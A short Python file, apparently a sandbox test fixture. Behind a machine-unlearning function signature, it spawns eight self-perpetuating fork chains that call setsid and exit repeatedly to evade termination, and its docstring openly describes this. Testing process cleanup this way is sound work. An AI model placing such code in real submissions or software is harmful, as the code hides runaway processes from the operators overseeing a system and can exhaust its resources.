"""Returns at once and leaves eight chains of processes, each of which forks the next and exits.

All must be ended.
"""

import os


def chain():
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            continue
        os.setsid()


def unlearning(net, retain, forget, val):
    for _ in range(8):
        if os.fork() == 0:
            chain()
